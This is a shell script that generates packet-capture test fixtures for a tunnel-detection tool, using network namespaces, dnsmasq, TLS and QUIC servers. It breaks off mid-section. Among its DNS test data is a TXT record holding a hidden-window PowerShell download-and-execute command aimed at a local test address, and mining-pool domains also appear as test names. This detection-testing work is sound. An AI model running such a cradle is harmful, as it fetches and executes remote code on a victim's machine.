#!/bin/sh
# Regenerate tunwatch's test captures from real programs (dig, kdig, openssl,
# gnutls-cli, curl, socat, dnsmasq, tinyproxy, ngtcp2's QUIC client and server, python3's
# http.server and http.client) talking across two network namespaces.
#
#   sudo sh pcaps/gen.sh                    # all captures, into pcaps/ next to this script
#   sudo sh pcaps/gen.sh resolve_connect    # only the captures named (see CAPTURES below);
#                                           # the other files are left as they are
#
# Topology (all created here and removed on exit, even on failure):
#
#   netns client                               netns server
#   tw-c0 10.20.0.2/24 10.20.0.3/24 fd20::2/64 <-veth-> tw-s0 10.20.0.1/24 fd20::1/64
#                                                       + 10.20.0.11-14,16-18 fd20::15 (resolve_connect)
#                                                       + 10.20.0.19 (dns_answers)
#                                                       + 10.20.0.20-21 (dns_pointers)
#   tw-cv100 (tap) 10.20.100.2 fd20:100::2  <-802.1Q 100 on the veth->  tw-sv100 .1
#   tw-cv200 (tap) 10.20.200.2 fd20:200::2  <-802.1ad 200 + 802.1Q 300->  tw-sv200 .1
#   tw-cr0   (tap) 10.20.50.2 (MTU 300)     <-untagged, reordering->     tw-sr0 .1
#   tw-ctun  (tun) 10.20.40.2 fd20:40::2    <-raw IP->                   tw-stun .1
#
# The tap/tun pairs are joined by pcaps/tools/nsrelay.py because this kernel
# has neither 8021q (VLAN devices) nor sch_netem (tc reordering); see README.md.
# Servers (server namespace): dnsmasq on UDP+TCP 53, openssl s_server -www on
# 443, 8443 and 4443 (and on 9443 with X25519 only, hello_retry; ngtcp2's gtlsserver with
# P-384 only on UDP 4435 for it too), gnutls-serv on 5443
# (tls_lenient, hello_retry), tinyproxy on 10.20.0.1:3128
# (CONNECT to 443 and 8443), tools/dnsptr.py on UDP 10.20.0.20:53 (dns_pointers), socat echo servers on TCP 5000-5004 (all addresses) and UDP
# 10.20.0.14:19132; for the quic capture ngtcp2's gtlsserver on UDP 4433, 4434 (Retry) and
# 7844, openssl s_server on TCP 7844, for the http capture tools/httpd.py (HTTP/1.1,
# keep-alive) on TCP 80 and 8080.
# Required Debian packages: iproute2 tcpdump tshark dnsutils knot-dnsutils
# openssl curl gnutls-bin dnsmasq-base tinyproxy socat python3 util-linux ethtool
# ngtcp2-client ngtcp2-server.
set -eu

HERE=$(cd "$(dirname "$0")" && pwd)
OUT=${TW_PCAP_OUT:-$HERE}
TOOLS=$HERE/tools
C=${TW_NS_CLIENT:-client}
S=${TW_NS_SERVER:-server}
SRV=10.20.0.1
SRV6=fd20::1
LONG=$(printf '%063d' 0 | tr 0 a).$(printf '%063d' 0 | tr 0 b).$(printf '%063d' 0 | tr 0 c).$(printf '%046d' 0 | tr 0 d).ngrok-free.app

# Captures that can be asked for by name (the section names below); none = all of them.
CAPTURES="tunnels dns_tcp tls_small_mss ipv6_vlan connect_proxy pq_hello linktypes resolve_connect quic http tls_lenient dns_answers dns_pointers tfo sni_port hello_retry"
WANT=""
for a in "$@"; do
    n=${a#pcaps/}; n=${n%/}; n=${n%.pcapng}; n=${n%.pcap}
    case " $CAPTURES " in
    *" $n "*) WANT="$WANT $n" ;;
    *) echo "gen.sh: unknown capture '$a' (one of: $CAPTURES)" >&2; exit 2 ;;
    esac
done
[ -n "$WANT" ] || WANT=$CAPTURES
want() { case " $WANT " in *" $1 "*) return 0 ;; esac; return 1; }

[ "$(id -u)" = 0 ] || { echo "gen.sh: must run as root (sudo sh pcaps/gen.sh)" >&2; exit 1; }
for t in ip ethtool tcpdump dumpcap tshark capinfos dig kdig openssl curl gnutls-cli socat dnsmasq tinyproxy python3 unshare; do
    command -v $t >/dev/null 2>&1 || { echo "gen.sh: missing $t" >&2; exit 1; }
done
if want quic || want hello_retry; then  # ngtcp2's examples built with GnuTLS (ngtcp2-client, ngtcp2-server)
    for t in gtlsclient gtlsserver; do
        command -v $t >/dev/null 2>&1 || { echo "gen.sh: missing $t (ngtcp2-client, ngtcp2-server)" >&2; exit 1; }
    done
fi

WORK=$(mktemp -d /tmp/tunwatch-pcaps.XXXXXX)
PIDS=""
CAP=""
cleanup() {
    rc=$?
    trap - EXIT INT TERM
    for p in $PIDS; do kill "$p" 2>/dev/null || true; done
    for ns in "$C" "$S"; do
        if ip netns list | grep -qx "$ns\( .*\)\?"; then
            for p in $(ip netns pids "$ns" 2>/dev/null); do kill "$p" 2>/dev/null || true; done
        fi
    done
    sleep 0.3
    for ns in "$C" "$S"; do ip netns del "$ns" 2>/dev/null || true; done
    if [ $rc -ne 0 ]; then
        echo "gen.sh: FAILED (rc=$rc); logs:" >&2
        for f in "$WORK"/*.log; do [ -f "$f" ] && { echo "== $f" >&2; tail -n 20 "$f" >&2; }; done
    fi
    rm -rf "$WORK"
    exit $rc
}
trap cleanup EXIT
trap 'exit 130' INT TERM

inC() { ip netns exec "$C" "$@"; }
inS() { ip netns exec "$S" "$@"; }
bg() { "$@" & PIDS="$PIDS $!"; }
log() { printf '== %s\n' "$*"; }

# ---------------------------------------------------------------- topology
# Idempotence: a previous interrupted run may have left the namespaces behind.
for ns in "$C" "$S"; do
    if ip netns list | grep -qx "$ns\( .*\)\?"; then
        for p in $(ip netns pids "$ns"); do kill "$p" 2>/dev/null || true; done
        ip netns del "$ns"
    fi
done
ip netns add "$C"
ip netns add "$S"
for ns in "$C" "$S"; do
    ip -n "$ns" link set lo up
    # fewer background packets (router solicitations, DAD) in the captures
    ip netns exec "$ns" sh -c 'for k in default all; do
        echo 0 > /proc/sys/net/ipv6/conf/$k/router_solicitations
        echo 0 > /proc/sys/net/ipv6/conf/$k/dad_transmits
        echo 0 > /proc/sys/net/ipv6/conf/$k/accept_ra; done'
done
# tfo: TCP Fast Open for every listener of the server namespace (0x400: no socket option
# needed, so openssl s_server takes data in a SYN), set before they listen; clients use it
# only when asked (curl --tcp-fastopen)
ip netns exec "$S" sh -c 'echo 1027 > /proc/sys/net/ipv4/tcp_fastopen'
ip netns exec "$C" sh -c 'echo 1 > /proc/sys/net/ipv4/tcp_fastopen'
ip link add tw-c0 netns "$C" address 02:20:00:00:00:02 type veth peer name tw-s0 netns "$S" address 02:20:00:00:00:01
ip -n "$C" addr add 10.20.0.2/24 dev tw-c0
ip -n "$C" addr add 10.20.0.3/24 dev tw-c0
ip -n "$C" addr add fd20::2/64 dev tw-c0 nodad
ip -n "$S" addr add 10.20.0.1/24 dev tw-s0
ip -n "$S" addr add fd20::1/64 dev tw-s0 nodad
# resolve_connect: one server address per resolved name, none of them answered by a wildcard
for i in 11 12 13 14 16 17 18; do ip -n "$S" addr add 10.20.0.$i/24 dev tw-s0; done
# dns_answers: the address several names share
ip -n "$S" addr add 10.20.0.19/24 dev tw-s0
# dns_pointers: a DNS server whose answers point forward (.20), the address it gives (.21)
ip -n "$S" addr add 10.20.0.20/24 dev tw-s0
ip -n "$S" addr add 10.20.0.21/24 dev tw-s0
ip -n "$S" addr add fd20::15/64 dev tw-s0 nodad
# No TSO/GSO/GRO: the capture must show the segments as they are on the wire,
# not one 64 KB super-segment that the stack splits after the capture point.
ip netns exec "$C" ethtool -K tw-c0 tso off gso off gro off tx-checksumming off >/dev/null
ip netns exec "$S" ethtool -K tw-s0 tso off gso off gro off tx-checksumming off >/dev/null
ip -n "$C" link set tw-c0 up
ip -n "$S" link set tw-s0 up

# tap pairs (Ethernet over the veth, via nsrelay.py) and a tun pair (raw IP)
mktap() { # ns dev mac mtu
    ip -n "$1" tuntap add dev "$2" mode tap
    ip -n "$1" link set dev "$2" address "$3" mtu "$4"
}
mktap "$C" tw-cv100 02:20:00:01:00:02 1500; mktap "$S" tw-sv100 02:20:00:01:00:01 1500
mktap "$C" tw-cv200 02:20:00:02:00:02 1500; mktap "$S" tw-sv200 02:20:00:02:00:01 1500
mktap "$C" tw-cr0   02:20:00:05:00:02 300;  mktap "$S" tw-sr0   02:20:00:05:00:01 300
ip -n "$C" tuntap add dev tw-ctun mode tun
ip -n "$S" tuntap add dev tw-stun mode tun
for pair in "tw-cv100 tw-sv100 100" "tw-cv200 tw-sv200 200" "tw-cr0 tw-sr0 50" "tw-ctun tw-stun 40"; do
    set -- $pair
    ip -n "$C" addr add 10.20.$3.2/24 dev "$1"
    ip -n "$S" addr add 10.20.$3.1/24 dev "$2"
    if [ "$3" != 50 ]; then  # the reordering pair has an MTU of 300, too small for IPv6
        ip -n "$C" addr add fd20:$3::2/64 dev "$1" nodad
        ip -n "$S" addr add fd20:$3::1/64 dev "$2" nodad
    fi
    ip -n "$C" link set "$1" up
    ip -n "$S" link set "$2" up
done
bg python3 "$TOOLS/nsrelay.py" tap "$C" tw-cv100 tw-c0 "$S" tw-sv100 tw-s0 8100:100 2>"$WORK/relay100.log"
bg python3 "$TOOLS/nsrelay.py" tap "$C" tw-cv200 tw-c0 "$S" tw-sv200 tw-s0 88a8:200,8100:300 2>"$WORK/relay200.log"
bg python3 "$TOOLS/nsrelay.py" tap "$C" tw-cr0 tw-c0 "$S" tw-sr0 tw-s0 none reorder=4443 2>"$WORK/relay50.log"
bg python3 "$TOOLS/nsrelay.py" tun "$C" tw-ctun "$S" tw-stun 2>"$WORK/relay40.log"

# ----------------------------------------------------------------- servers
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 30 \
    -subj /CN=tunwatch-test -keyout "$WORK/key.pem" -out "$WORK/cert.pem" 2>"$WORK/req.log"
for port in 443 8443 4443; do
    bg ip netns exec "$S" openssl s_server -quiet -www -accept "$port" -cert "$WORK/cert.pem" -key "$WORK/key.pem" \
        >"$WORK/s_server.$port.log" 2>&1
done
if want hello_retry; then
    bg ip netns exec "$S" openssl s_server -quiet -www -accept 9443 -groups X25519 -cert "$WORK/cert.pem" \
        -key "$WORK/key.pem" >"$WORK/s_server.9443.log" 2>&1
    # QUIC on UDP 4435 taking P-384 only: gtlsclient's two key shares (X25519, P-256) do not do
    mkdir -p "$WORK/htdocs"
    echo 'tunwatch quic test' >"$WORK/htdocs/index.html"
    bg ip netns exec "$S" gtlsserver -q -d "$WORK/htdocs" --groups=-GROUP-ALL:+GROUP-SECP384R1 '*' 4435 \
        "$WORK/key.pem" "$WORK/cert.pem" >"$WORK/gtlsserver.4435.log" 2>&1
fi
if want tls_lenient || want hello_retry; then
    bg ip netns exec "$S" gnutls-serv --port 5443 --x509certfile "$WORK/cert.pem" --x509keyfile "$WORK/key.pem" \
        >"$WORK/gnutls-serv.log" 2>&1
fi

set -- \
    localto.net localtonet.com ngrok-free.app ngrok.io ngrok-agent.com trycloudflare.com argotunnel.com \
    devtunnels.ms loca.lt bore.pub lhr.life serveo.net pinggy.link debian.org example-bank.com cftunnel.com
DNSMASQ_ADDR=""
for d in "$@"; do DNSMASQ_ADDR="$DNSMASQ_ADDR --address=/$d/$SRV --address=/$d/$SRV6"; done
# resolve_connect: names with an address of their own (a host record wins over the domain
# wildcards above) and a CNAME to one of them; TTL 300 instead of dnsmasq's local TTL 0.
DNSMASQ_ADDR="$DNSMASQ_ADDR --host-record=x7k2.localto.net,10.20.0.11,300
    --host-record=q1w2.tcp.eu.ngrok.io,10.20.0.12,300 --host-record=amber-fox.trycloudflare.com,10.20.0.13,300
    --cname=files.example-corp.com,amber-fox.trycloudflare.com,300 --host-record=ranch-lime.gl.at.ply.gg,10.20.0.14,300
    --host-record=rnkqz-203-0-113-9.a.free.pinggy.link,fd20::15,300 --host-record=7.tcp.ngrok.io,10.20.0.17,300
    --host-record=r2d2.localtonet.com,10.20.0.18,300"
# dns_answers: names sharing 10.20.0.19; HTTPS records (RFC 9460 RDATA in hex, as ldns writes
# "1 . alpn=h2,h3 ipv4hint=10.20.0.19 ech=AEX+DQBB..." (an ECHConfigList for the public name
# cloudflare-ech.com), "1 . alpn=h2"), an SVCB record ("1 doh.ech-demo.example.
# alpn=h2 dohpath=/dns-query{?dns}"), a TXT record with a command line, an MX, a domain
# answered NXDOMAIN, two mining-pool domains (one answered 0.0.0.0).
ECH_HTTPS=00010000010006026832026833000400040a140013000500470045fe0d00413300200020501da1bcb34aea6ceffc1a7fe415427bc1b787165363c4bc26ee94dd8092ec0d0004000100010012636c6f7564666c6172652d6563682e636f6d0000
PLAIN_HTTPS=00010000010003026832
DOH_SVCB=000103646f68086563682d64656d6f076578616d706c650000010003026832000700102f646e732d71756572797b3f646e737d
for n in alpha beta secret z; do DNSMASQ_ADDR="$DNSMASQ_ADDR --host-record=$n.ech-demo.example,10.20.0.19,300"; done
DNSMASQ_ADDR="$DNSMASQ_ADDR --dns-rr=secret.ech-demo.example,65,$ECH_HTTPS
    --dns-rr=plain.ech-demo.example,65,$PLAIN_HTTPS --dns-rr=_dns.resolver.ech-demo.example,64,$DOH_SVCB
    --mx-host=mail.ech-demo.example,mx1.ech-demo.example,10 --address=/nx-demo.example/
    --address=/supportxmr.com/10.20.0.19 --address=/minexmr.com/0.0.0.0"
bg ip netns exec "$S" dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --user=root --group=root --pid-file= \
    --log-queries --log-facility=- $DNSMASQ_ADDR \
    "--txt-record=cmd.ech-demo.example,powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString(http://10.20.0.19/a)" \
    >"$WORK/dnsmasq.log" 2>&1

cat >"$WORK/tinyproxy.conf" <<CONF
User root
Group root
Port 3128
Listen $SRV
Timeout 30
MaxClients 20
Allow 10.20.0.0/24
ConnectPort 443
ConnectPort 8443
ConnectPort 8080
LogLevel Info
CONF
echo "nameserver $SRV" >"$WORK/resolv.conf"
# tinyproxy resolves CONNECT targets itself: give it the namespace's dnsmasq
bg ip netns exec "$S" unshare -m sh -c "mount --bind '$WORK/resolv.conf' /etc/resolv.conf && exec tinyproxy -d -c '$WORK/tinyproxy.conf'" \
    >"$WORK/tinyproxy.log" 2>&1

# resolve_connect: raw TCP and UDP "tunnel" endpoints, echoing what they receive; the one on
# 5001 speaks first with an SSH banner. The UDP one is bound to its address so that its
# replies come from the address the client sent to.
cat >"$WORK/banner.sh" <<'SH'
printf 'SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n'
exec cat
SH
for port in 5000 5001 5002 5003 5004; do
    srv=EXEC:cat
    [ $port = 5001 ] && srv="EXEC:sh $WORK/banner.sh"
    bg ip netns exec "$S" socat TCP6-LISTEN:$port,ipv6only=0,reuseaddr,fork "$srv" >"$WORK/socat.$port.log" 2>&1
done
bg ip netns exec "$S" socat -T 2 UDP4-LISTEN:19132,bind=10.20.0.14,reuseaddr,fork PIPE >"$WORK/socat.19132.log" 2>&1

# quic: ngtcp2's HTTP/3 server (GnuTLS) on UDP 4433 and on cloudflared's port 7844, all
# addresses, and a TLS server on TCP 7844 (cloudflared's http2 transport)
if want quic; then
    mkdir -p "$WORK/htdocs"
    echo 'tunwatch quic test' >"$WORK/htdocs/index.html"
    for port in 4433 7844; do
        bg ip netns exec "$S" gtlsserver -q -d "$WORK/htdocs" '*' $port "$WORK/key.pem" "$WORK/cert.pem" \
            >"$WORK/gtlsserver.$port.log" 2>&1
    done
    # UDP 4434: address validation, every client gets a Retry first
    bg ip netns exec "$S" gtlsserver -q -V -d "$WORK/htdocs" '*' 4434 "$WORK/key.pem" "$WORK/cert.pem" \
        >"$WORK/gtlsserver.4434.log" 2>&1
    bg ip netns exec "$S" openssl s_server -quiet -www -accept 7844 -cert "$WORK/cert.pem" -key "$WORK/key.pem" \
        >"$WORK/s_server.7844.log" 2>&1
fi
# dns_pointers: a DNS server on 10.20.0.20 whose A answers hold a forward pointer (dnsmasq
# keeps the wildcard address of port 53)
if want dns_pointers; then
    bg ip netns exec "$S" python3 "$TOOLS/dnsptr.py" serve 10.20.0.20 >"$WORK/dnsptr.log" 2>&1
    echo "nameserver 10.20.0.20" >"$WORK/resolv-ptr.conf"
fi
# http: plain HTTP/1.1 with keep-alive on TCP 80 and 8080, all addresses
if want http; then
    bg ip netns exec "$S" python3 "$TOOLS/httpd.py" 80 8080 >"$WORK/httpd.log" 2>&1
fi

wait_port() { # ns proto port
    i=0
    while ! ip netns exec "$1" ss -Hln"$( [ "$2" = udp ] && echo u || echo t )" "sport = :$3" | grep -q .; do
        i=$((i + 1)); [ $i -lt 100 ] || { echo "gen.sh: nothing listening on $2/$3" >&2; exit 1; }
        sleep 0.1
    done
}
wait_port "$S" udp 53; wait_port "$S" tcp 53
wait_port "$S" tcp 443; wait_port "$S" tcp 8443; wait_port "$S" tcp 4443; wait_port "$S" tcp 3128
if want tls_lenient || want hello_retry; then wait_port "$S" tcp 5443; fi
if want hello_retry; then wait_port "$S" tcp 9443; wait_port "$S" udp 4435; fi
for port in 5000 5001 5002 5003 5004; do wait_port "$S" tcp $port; done
wait_port "$S" udp 19132
if want quic; then wait_port "$S" udp 4433; wait_port "$S" udp 4434; wait_port "$S" udp 7844; wait_port "$S" tcp 7844; fi
if want http; then wait_port "$S" tcp 80; wait_port "$S" tcp 8080; fi
if want dns_pointers; then
    i=0
    while ! grep -q '^serving on' "$WORK/dnsptr.log"; do
        i=$((i + 1)); [ $i -lt 100 ] || { echo "gen.sh: dnsptr.py did not start" >&2; exit 1; }
        sleep 0.1
    done
fi
# the relays must have attached to the tap/tun devices (carrier up) and carry traffic
for d in "$C tw-cv100" "$S tw-sv100" "$C tw-cv200" "$S tw-sv200" "$C tw-cr0" "$S tw-sr0" "$C tw-ctun" "$S tw-stun"; do
    set -- $d
    i=0
    while ! ip -n "$1" link show dev "$2" | grep -q LOWER_UP; do
        i=$((i + 1)); [ $i -lt 100 ] || { echo "gen.sh: relay did not attach to $2" >&2; exit 1; }
        sleep 0.1
    done
done
for a in 10.20.100.1 10.20.200.1 10.20.50.1 10.20.40.1; do
    inC dig +tries=2 +time=2 @"$a" relay.check.debian.org A >/dev/null || { echo "gen.sh: relay to $a not working" >&2; exit 1; }
done

# ---------------------------------------------------------------- capture
cap_start() { # ns file tool args...
    ns=$1 file=$2 tool=$3; shift 3
    rm -f "$file"
    : >"$WORK/cap.log"
    if [ "$tool" = dumpcap ]; then
        ip netns exec "$ns" dumpcap -q -s 0 -w "$file" "$@" >"$WORK/cap.log" 2>&1 &
    else
        ip netns exec "$ns" tcpdump -n -U --immediate-mode -s 0 -Z root -w "$file" "$@" >"$WORK/cap.log" 2>&1 &
    fi
    CAP=$!
    PIDS="$PIDS $CAP"
    i=0
    while ! grep -qE 'listening on|Capturing on' "$WORK/cap.log"; do
        i=$((i + 1)); [ $i -lt 100 ] || { echo "gen.sh: capture did not start" >&2; cat "$WORK/cap.log" >&2; exit 1; }
        sleep 0.1
    done
    sleep 0.3
}
cap_stop() {
    sleep 1.5
    kill -INT "$CAP"
    wait "$CAP" || true
    CAP=""
}

q() { inC dig +tries=1 +time=3 "$@" >>"$WORK/client.log" 2>&1; }              # dig, UDP
tls() { # addr:port sni [extra s_client args]
    a=$1 n=$2; shift 2
    inC timeout 10 openssl s_client -brief -connect "$a" -servername "$n" "$@" </dev/null >>"$WORK/client.log" 2>&1
}
web() { inC curl -sk -o /dev/null --max-time 10 "$@" >>"$WORK/client.log" 2>&1; }
quic() { # name port [gtlsclient options]: one HTTP/3 GET of https://name/ (name in hosts.quic)
    n=$1 p=$2; shift 2
    inC unshare -m sh -c 'mount --bind "$0" /etc/hosts && exec timeout 10 gtlsclient -q --exit-on-all-streams-close "$@"' \
        "$WORK/hosts.quic" "$@" "$n" "$p" "https://$n/" >>"$WORK/client.log" 2>&1
}

# 1. tunnels.pcapng -- the demo capture
if want tunnels; then
    log tunnels.pcapng
    cap_start "$C" "$OUT/tunnels.pcapng" dumpcap -i tw-c0
    for n in a1b2c3.localto.net www.debian.org abcd-203-0-113-5.ngrok-free.app quick-fox-lake.trycloudflare.com; do
        q @$SRV "$n" A; q @$SRV "$n" AAAA; q @$SRV "$n" HTTPS
    done
    for n in x9.localtonet.com localto.net 0.tcp.ngrok.io connect.ngrok-agent.com region1.v2.argotunnel.com \
             k3x9.euw.devtunnels.ms brave-cat-42.loca.lt bore.pub 8d7f.lhr.life demo.serveo.net xyz.a.pinggy.link \
             deb.debian.org WWW.Example-Bank.COM AbC.LocalTo.Net "$LONG"; do
        q @$SRV "$n" A
    done
    tls $SRV:443 a1b2c3.localto.net
    web --resolve quick-fox-lake.trycloudflare.com:443:$SRV https://quick-fox-lake.trycloudflare.com/
    web --resolve www.debian.org:443:$SRV https://www.debian.org/
    tls $SRV:8443 abcd-203-0-113-5.ngrok-free.app
    tls $SRV:4443 AbC.LocalTo.Net
    tls $SRV:443 x.localto.net.
    tls $SRV:443 localto.net
    inC timeout 10 gnutls-cli --insecure --sni-hostname=k3x9.euw.devtunnels.ms -p 443 $SRV </dev/null >>"$WORK/client.log" 2>&1
    web --resolve deb.debian.org:443:$SRV https://deb.debian.org/
    web --resolve WWW.Example-Bank.COM:443:$SRV https://WWW.Example-Bank.COM/   # curl lower-cases the SNI
    tls $SRV:443 WWW.Example-Bank.COM                                              # openssl keeps the case
    cap_stop
fi

# 2. dns_tcp.pcap -- DNS over TCP
if want dns_tcp; then
    log dns_tcp.pcap
    ip -n "$S" route replace 10.20.0.3/32 dev tw-s0 src $SRV advmss 88
    cap_start "$C" "$OUT/dns_tcp.pcap" tcpdump -i tw-c0
    q +tcp @$SRV a1b2c3.localto.net A
    q +tcp +keepopen @$SRV 0.tcp.ngrok.io A bore.pub A www.debian.org AAAA
    inC kdig +tcp +retry=0 @$SRV quick-fox-lake.trycloudflare.com AAAA >>"$WORK/client.log" 2>&1
    inC kdig +tcp +retry=0 @$SRV k3x9.euw.devtunnels.ms A >>"$WORK/client.log" 2>&1
    inC python3 "$TOOLS/dnstcp.py" pipeline $SRV brave-cat-42.loca.lt:A deb.debian.org:A 8d7f.lhr.life:HTTPS
    inC python3 "$TOOLS/dnstcp.py" split $SRV demo.serveo.net:A 2,9      # length alone, then mid-name
    inC python3 "$TOOLS/dnstcp.py" split $SRV xyz.a.pinggy.link:A 1      # cut inside the length prefix
    q +tcp -b 10.20.0.3 @$SRV "$LONG" A                                   # peer MSS 88: 4 segments
    q +tcp -b 10.20.0.3 @$SRV connect.ngrok-agent.com A
    q +tcp @$SRV6 region1.v2.argotunnel.com AAAA
    cap_stop
    ip -n "$S" route del 10.20.0.3/32 dev tw-s0
fi

# 3. tls_small_mss.pcap -- ClientHello over several segments / records / out of order
if want tls_small_mss; then
    log tls_small_mss.pcap
    ip -n "$S" route replace 10.20.0.3/32 dev tw-s0 src $SRV advmss 200
    ALPN_MID=$(i=0; l=""; while [ $i -lt 40 ]; do l="$l,x-tunwatch-filler-$i"; i=$((i + 1)); done; echo "h2,http/1.1$l")
    cap_start "$C" "$OUT/tls_small_mss.pcap" tcpdump -i tw-c0
    tls $SRV:443 a1b2c3.localto.net -bind 10.20.0.3:0
    web --interface 10.20.0.3 --resolve quick-fox-lake.trycloudflare.com:443:$SRV https://quick-fox-lake.trycloudflare.com/
    tls $SRV:8443 "$LONG" -bind 10.20.0.3:0
    tls $SRV:443 k3x9.euw.devtunnels.ms -max_send_frag 512 -alpn "$ALPN_MID"          # 2+ TLS records
    tls $SRV:4443 x9.localtonet.com -bind 10.20.0.3:0 -max_send_frag 512 -alpn "$ALPN_MID"  # records and segments
    tls 10.20.50.1:4443 brave-cat-42.loca.lt                                         # first segment delivered last
    web --resolve xyz.a.pinggy.link:4443:10.20.50.1 https://xyz.a.pinggy.link:4443/
    tls 10.20.50.1:4443 www.debian.org
    cap_stop
    ip -n "$S" route del 10.20.0.3/32 dev tw-s0
fi

# 4. ipv6_vlan.pcap -- IPv6, 802.1Q and QinQ
if want ipv6_vlan; then
    log ipv6_vlan.pcap
    cap_start "$C" "$OUT/ipv6_vlan.pcap" tcpdump -i tw-c0
    q @$SRV6 k3x9.euw.devtunnels.ms AAAA
    q @$SRV6 www.debian.org AAAA
    tls "[$SRV6]:443" abcd-203-0-113-5.ngrok-free.app
    web -6 --resolve "quick-fox-lake.trycloudflare.com:8443:[$SRV6]" https://quick-fox-lake.trycloudflare.com:8443/
    q @10.20.100.1 a1b2c3.localto.net A
    tls 10.20.100.1:443 x9.localtonet.com
    q @fd20:100::1 0.tcp.ngrok.io AAAA
    tls "[fd20:100::1]:8443" region1.v2.argotunnel.com
    q @10.20.200.1 bore.pub A
    tls 10.20.200.1:443 8d7f.lhr.life
    q @fd20:200::1 demo.serveo.net AAAA
    tls "[fd20:200::1]:4443" deb.debian.org
    cap_stop
fi

# 5. connect_proxy.pcap -- TLS inside an HTTP CONNECT tunnel
if want connect_proxy; then
    log connect_proxy.pcap
    cap_start "$C" "$OUT/connect_proxy.pcap" tcpdump -i tw-c0
    web -x http://$SRV:3128 https://a1b2c3.localto.net/
    web -x http://$SRV:3128 https://abcd-203-0-113-5.ngrok-free.app:8443/
    web -x http://$SRV:3128 https://www.debian.org/
    inC timeout 10 openssl s_client -brief -proxy $SRV:3128 -connect quick-fox-lake.trycloudflare.com:443 \
        -servername quick-fox-lake.trycloudflare.com </dev/null >>"$WORK/client.log" 2>&1
    cap_stop
fi

# 6. pq_hello.pcap -- a ClientHello over 2 KiB (the size of a post-quantum key share)
if want pq_hello; then
    log pq_hello.pcap
    ALPN_BIG=$(i=0; l=""; while [ $i -lt 100 ]; do l="$l,x-tunwatch-large-hello-$i"; i=$((i + 1)); done; echo "h2,http/1.1$l")
    cap_start "$C" "$OUT/pq_hello.pcap" tcpdump -i tw-c0
    tls $SRV:443 abcd-203-0-113-5.ngrok-free.app -alpn "$ALPN_BIG"
    tls $SRV:8443 www.debian.org -alpn "$ALPN_BIG"
    cap_stop
fi

# 7. linktypes/ -- one small DNS + TLS exchange per link type
if want linktypes; then
    log linktypes/
    mkdir -p "$OUT/linktypes"
    exchange() { # v4 v6 server addresses
        q @"$1" a1b2c3.localto.net A
        q @"$2" quick-fox-lake.trycloudflare.com AAAA
        tls "$1:443" abcd-203-0-113-5.ngrok-free.app
        tls "[$2]:443" k3x9.euw.devtunnels.ms
    }
    cap_start "$C" "$OUT/linktypes/ether.pcap" tcpdump -i tw-c0 'ip or ip6'
    exchange $SRV $SRV6
    cap_stop
    cap_start "$C" "$OUT/linktypes/sll.pcap" tcpdump -i any -y LINUX_SLL 'ip or ip6'
    exchange $SRV $SRV6
    cap_stop
    cap_start "$C" "$OUT/linktypes/sll2.pcap" tcpdump -i any -y LINUX_SLL2 'ip or ip6'
    exchange $SRV $SRV6
    cap_stop
    cap_start "$C" "$OUT/linktypes/raw.pcap" tcpdump -i tw-ctun
    exchange 10.20.40.1 fd20:40::1
    cap_stop
    python3 "$TOOLS/ether2null.py" "$OUT/linktypes/ether.pcap" "$OUT/linktypes/null.pcap"
fi

# 8. resolve_connect.pcap -- a name resolved, then a connection to the answer with no name on
# the wire (raw TCP/UDP tunnels); every name has an address of its own (dnsmasq host records)
if want resolve_connect; then
    log resolve_connect.pcap
    raw() { # socat-address [timeout]: stdin to the peer, its echo to the log, then close
        inC timeout 10 socat -t "${2:-2}" - "$1" >>"$WORK/client.log" 2>&1
    }
    cap_start "$C" "$OUT/resolve_connect.pcap" tcpdump -i tw-c0
    q @$SRV x7k2.localto.net A                                     # answer over UDP
    printf 'hello tunnel\n' | raw TCP4:10.20.0.11:5000
    q +tcp @$SRV q1w2.tcp.eu.ngrok.io A                            # answer over TCP
    { sleep 0.3; printf 'SSH-2.0-OpenSSH_9.2p1\r\n'; } | raw TCP4:10.20.0.12:5001   # server speaks first
    q @$SRV files.example-corp.com A                               # CNAME amber-fox.trycloudflare.com
    printf 'hello tunnel\n' | raw TCP4:10.20.0.13:5002
    tls 10.20.0.13:443 files.example-corp.com                      # SNI: the queried name
    q @$SRV ranch-lime.gl.at.ply.gg A
    { printf 'udp tunnel 1\n'; sleep 0.2; printf 'udp tunnel 2\n'; } | raw UDP4:10.20.0.14:19132 0.5
    q @$SRV6 rnkqz-203-0-113-9.a.free.pinggy.link AAAA             # asked and answered over IPv6
    printf 'hello tunnel\n' | raw TCP6:[fd20::15]:5003
    printf 'hello tunnel\n' | raw TCP4:10.20.0.16:5000            # never resolved: no name
    q -b 10.20.0.3 @$SRV 7.tcp.ngrok.io A                          # resolved by 10.20.0.3 only
    printf 'hello tunnel\n' | raw TCP4:10.20.0.17:5000,bind=10.20.0.2  # other client: no name
    printf 'hello tunnel\n' | raw TCP4:10.20.0.17:5000,bind=10.20.0.3  # the client that asked
    q @$SRV r2d2.localtonet.com A
    # still open when the capture stops: socat's stdin is a FIFO held open by this shell
    mkfifo "$WORK/hold"
    inC socat - TCP4:10.20.0.18:5004 <"$WORK/hold" >>"$WORK/client.log" 2>&1 &
    HOLD=$!
    PIDS="$PIDS $HOLD"
    exec 3>"$WORK/hold"
    printf 'hello tunnel\n' >&3
    cap_stop
    exec 3>&-   # EOF: socat half-closes, the echo server closes, socat exits
    wait "$HOLD"
fi

# 9. quic.pcap -- QUIC Initials of ngtcp2's client (gtlsclient, GnuTLS) on UDP 4433 and 7844,
# IPv4 and IPv6, untagged, 802.1Q and QinQ; the name to connect to is the SNI it sends, so each
# name gets its address from a hosts file of its own (no DNS in this capture)
if want quic; then
    log quic.pcap
    cat >"$WORK/hosts.quic" <<HOSTS
10.20.0.1 abc.trycloudflare.com www.debian.org x9.localtonet.com quic-v2.trycloudflare.com retry.trycloudflare.com brave-cat-42.loca.lt
10.20.0.1 $LONG
fd20::1 quic.cftunnel.com
10.20.100.1 x.localto.net
fd20:100::1 region1.v2.argotunnel.com
10.20.200.1 abcd-203-0-113-5.ngrok-free.app
fd20:200::1 k3x9.euw.devtunnels.ms
HOSTS
    cap_start "$C" "$OUT/quic.pcap" tcpdump -i tw-c0
    quic abc.trycloudflare.com 4433
    quic quic.cftunnel.com 7844                       # cloudflared's QUIC name and port, IPv6
    quic www.debian.org 7844
    quic x.localto.net 4433                           # 802.1Q 100, IPv4
    quic region1.v2.argotunnel.com 7844               # 802.1Q 100, IPv6
